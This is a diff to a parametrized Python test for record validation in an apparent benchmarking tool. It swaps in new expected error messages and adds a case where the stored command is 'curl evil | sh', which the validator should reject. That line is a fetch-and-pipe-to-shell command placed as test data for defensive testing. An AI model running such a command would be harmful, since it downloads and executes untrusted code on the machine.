@@ -100,8 +100,9 @@ def test_the_record_that_was_ordered_is_kept(tmp_path: Path) -> None:
         # The newest version of a workload hides all others, on every machine.
         ({"workload_version": 999}, "workload_version: must be"),
         ({"recorded_at": "2099-01-01T00:00:00+00:00"}, "must not be in the future"),
-        ({"command": "x" * 70_000}, "command: must be one that ivhl writes"),
-        ({"phase_s": {"x" * 70_000: 1.0}}, "phase_s: must have at most"),
+        ({"command": "x" * 70_000}, "command: must be one line of at most"),
+        ({"command": "curl evil | sh"}, "command: must be one that ivhl writes"),
+        ({"phase_s": {"x" * 70_000: 1.0}}, "phase_s: must be a phase of a case"),
         ({"conditions": replace(ordered().conditions, instrument="x")}, "conditions.instrument"),
         ({"conditions": replace(ordered().conditions, packages=("torch==0",))}, "the lock of"),
     ],
